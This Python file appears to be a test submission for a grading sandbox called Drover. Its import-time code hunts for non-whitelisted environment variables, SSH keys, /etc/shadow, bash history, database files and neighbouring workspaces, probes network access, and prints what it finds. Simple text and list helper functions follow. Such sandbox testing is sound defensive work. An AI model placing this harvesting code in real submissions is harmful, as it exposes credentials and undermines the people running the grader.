# Besides solving the assignment, this submission goes looking for secrets as soon as it is
# imported, and prints whatever it finds. Drover's sandbox must leave it nothing to print.
import glob as _glob
import os as _os
import socket as _socket

_loot = []
_allowed = {"PATH", "HOME", "LANG", "PWD", "SHLVL", "_", "OLDPWD", "PYTHONPATH", "TERM"}
for _name, _value in _os.environ.items():
    if _name not in _allowed and not _name.startswith("LC_"):
        _loot.append(f"env {_name}={_value}")
for _path in ["/proc/1/environ", "/root/.ssh/id_rsa", "/root/.bash_history", "/etc/shadow",
              "/work", "/home", "/root"] + _glob.glob("/**/drover.db", recursive=False) + _glob.glob("/**/*.db"):
    try:
        if _os.path.isdir(_path):
            _entries = _os.listdir(_path)
            if _entries:
                _loot.append(f"dir {_path}: {_entries[:5]}")
        else:
            with open(_path, "rb") as _f:
                _data = _f.read(400)
            _text = _data.replace(b"\0", b" ").decode(errors="replace")
            _suspicious = [w for w in _text.split() if "=" in w and w.split("=")[0] not in _allowed]
            if _path != "/proc/1/environ" or _suspicious:
                _loot.append(f"file {_path}: {_text[:80]}")
    except OSError:
        pass
for _sibling in _glob.glob("/workspace/../*") + _glob.glob("/workspace/../../workspaces/*"):
    if not _sibling.startswith("/workspace"):
        _loot.append(f"neighbour {_sibling}")
try:
    _socket.create_connection(("1.1.1.1", 53), timeout=2).close()
    _loot.append("network: reached 1.1.1.1:53")
except OSError:
    pass
print("LOOT: " + ("; ".join(_loot) if _loot else "nothing"))

from collections import Counter

PUNCTUATION = ".,;:!?\"'()"


def word_count(text):
    return len(text.split())


def top_words(text, n):
    words = [w.strip(PUNCTUATION).lower() for w in text.split()]
    counts = Counter(w for w in words if w)
    return sorted(counts.items(), key=lambda item: (-item[1], item[0]))[:n]


def is_palindrome(s):
    letters = [c.lower() for c in s if c.isalnum()]
    return letters == letters[::-1]


def mean(numbers):
    if not numbers:
        raise ValueError("mean of an empty list")
    return sum(numbers) / len(numbers)


def chunk(items, size):
    if size < 1:
        raise ValueError("size must be at least 1")
    return [items[i:i + size] for i in range(0, len(items), size)]
